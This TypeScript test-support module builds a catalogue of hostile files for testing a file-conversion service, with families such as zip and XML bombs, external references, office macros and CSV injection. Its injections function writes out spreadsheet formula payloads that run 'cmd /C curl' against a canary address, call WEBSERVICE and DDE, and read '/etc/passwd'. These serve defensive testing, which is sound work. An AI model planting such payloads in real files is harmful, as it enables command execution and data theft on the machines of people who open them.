import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { basename, join } from "node:path";
import type { FormatId } from "../../functions/domain/formats/formats.ts";
import { archiveBombs, archiveNames, NAMES } from "../engines/support/attacks/archives.ts";
import { type Attack, attack, repeated, sample } from "../engines/support/attacks/attack.ts";
import { textBombs, xmlBombs, zipBombs } from "../engines/support/attacks/bombs.ts";
import { depths } from "../engines/support/attacks/depths.ts";
import { drawings } from "../engines/support/attacks/endless/drawings.ts";
import { models } from "../engines/support/attacks/endless/models.ts";
import { endlessPapers, papers } from "../engines/support/attacks/endless/papers.ts";
import { texts } from "../engines/support/attacks/endless/texts.ts";
import { markupAttacks } from "../engines/support/attacks/markup.ts";
import { mediaBombs } from "../engines/support/attacks/media-bombs.ts";
import { mediaHeaders } from "../engines/support/attacks/media-headers.ts";
import { mediaReferences } from "../engines/support/attacks/media-references.ts";
import { fontBombs, pictureBombs } from "../engines/support/attacks/pictures.ts";
import type { Places } from "../engines/support/attacks/references/targets.ts";
import { references } from "../engines/support/attacks/references.ts";
import { sizes } from "../engines/support/attacks/sizes.ts";
import { macroText, officeAttacks } from "../engines/support/documents/office-references.ts";

/** All hostile files, by the attack that they attempt. */

export interface HostileFile {
  readonly family: string;
  readonly name: string;
  /** The filename that the client sends. */
  readonly filename: string;
  readonly bytes: () => Promise<Uint8Array>;
  /** The target formats; absent for a file of the corpus, which uses the most common targets of its format. */
  readonly to?: readonly FormatId[];
  /** Whether no engine can detect that its work never ends, so that the process limits end it. */
  readonly endless?: boolean;
}

/** What files try to reach. */
export interface Canaries {
  /** Addresses, file URLs and paths, none of which may be opened. */
  readonly places: Places;
  /** A file that must not be written. */
  readonly written: string;
}

/** @returns all generated files */
export const generated = ({ places, written }: Canaries): HostileFile[] => {
  const table: Readonly<Record<string, readonly Attack[]>> = {
    "ZIP, and documents in ZIP format": zipBombs,
    "archives: bombs": archiveBombs,
    "archives: names": archiveNames,
    "XML entities": xmlBombs,
    "growing YAML and Markdown": textBombs,
    "unlimited nesting": depths,
    "false sizes": sizes,
    "PNG and GIF": pictureBombs,
    "unlimited SVG": drawings,
    "unlimited PDF": papers,
    "unlimited models": models,
    "unlimited tables and texts": texts,
    fonts: fontBombs,
    "external references": references(places),
    "external references in markup": markup(places),
    "office links and macros": office(places, written),
    "CSV injection": injections(places),
    "media bombs": mediaBombs,
    "false media headers": mediaHeaders,
    "HLS and other playlists": mediaReferences(places),
  };
  return [
    ...Object.entries(table).flatMap(([family, attacks]) => attacks.map((one) => fileOf(family, one))),
    ...endlessPapers.map((one) => ({ ...fileOf("unlimited PDF", one), endless: true })),
    ...NAMES.map(([what, name]) => ({
      family: "upload names",
      name: what,
      filename: `${name}.png`,
      bytes: async () => sample("png"),
      to: ["webp"] as const,
    })),
  ];
};

/** Texts whose result is gigabytes, or that pandoc reads in quadratic time: limits on memory and time end it. */
const PANDOC_GROWS: ReadonlySet<string> = new Set([
  "md: links with one definition",
  "md: nested footnotes",
  "md: unclosed entities and tags",
]);

const fileOf = (family: string, { name, from, to, bytes }: Attack): HostileFile => ({
  family,
  name: `${from}: ${name}`,
  filename: `hostile.${from}`,
  bytes: async () => Buffer.from(await bytes()),
  to,
  ...(PANDOC_GROWS.has(`${from}: ${name}`) && { endless: true }),
});

const markup = ([place, , path = ""]: Places): Attack[] =>
  Object.entries(markupAttacks({ file: path, picture: path, place })).map(([from, text]) =>
    attack(from as FormatId, ["html", "docx", "pdf"], "all kinds of references", () => text),
  );

const office = (places: Places, written: string): Attack[] => [
  ...officeAttacks.flatMap(({ title, format, write }) =>
    places.map((place) =>
      attack(format, ["pdf", "html", "csv"], `${title} at ${place.slice(0, 5)}`, async () => {
        const folder = mkdtempSync(join(tmpdir(), "anyform-office-"));
        try {
          const path = join(folder, "document");
          await write(path, place);
          return readFileSync(path);
        } finally {
          rmSync(folder, { recursive: true });
        }
      }),
    ),
  ),
  attack("fodt", ["pdf", "docx"], "a macro that runs on open", () => macroText(written)),
];

/** What spreadsheets interpret as formulas, and as commands (OWASP, CSV Injection). */
const injections = (places: Places): Attack[] => {
  const cells = places.flatMap((place) => [
    `=WEBSERVICE("${place}")`,
    `=HYPERLINK("${place}","x")`,
    `=cmd|' /C curl ${place}'!A0`,
    `@SUM(1+1)*cmd|' /C curl ${place}'!A0`,
    `-2+3+cmd|' /C curl ${place}'!A0`,
    `\t=IMPORTXML("${place}","//a")`,
    `=DDE("soffice";"${place}";"A1")`,
    `='file:///etc/passwd'#$passwd.A1`,
  ]);
  const csv = `a,b\n${repeated((n) => `${n},"${(cells[n - 1] ?? "").replaceAll('"', '""')}"\n`, cells.length)}`;
  const json = JSON.stringify(cells.map((cell) => ({ cell })));
  return [
    attack("csv", ["xlsx", "ods", "html", "pdf"], "formulas in cells", () => csv),
    attack("tsv", ["xlsx", "xls"], "formulas in cells", () => csv.replaceAll(",", "\t")),
    attack("json", ["csv", "xlsx"], "formulas in texts", () => json),
  ];
};

/** @returns up to `most` files of each family, evenly spread, and none that only a time limit ends */
export const fewOf = (files: readonly HostileFile[], most: number): HostileFile[] =>
  [...Map.groupBy(files, ({ family }) => family).values()].flatMap((family) => {
    const quick = family.filter(({ endless }) => endless !== true);
    const step = Math.max(1, quick.length / most);
    return quick.filter((_, index) => Math.floor(index / step) !== Math.floor((index - 1) / step));
  });

/** @returns the files of the corpus that are `corrupt` or `hostile`, by its `MANIFEST.tsv` */
export const corpusFiles = (corpus: string): HostileFile[] =>
  readFileSync(join(corpus, "MANIFEST.tsv"), "utf8")
    .trim()
    .split("\n")
    .slice(1)
    .map((line) => line.split("\t"))
    .filter(([, , , , kind]) => kind === "corrupt" || kind === "hostile")
    .map(([file = "", , , , kind = ""]) => ({
      family: `corpus: ${kind}`,
      name: file,
      filename: basename(file),
      bytes: async () => readFileSync(join(corpus, file)),
    }));
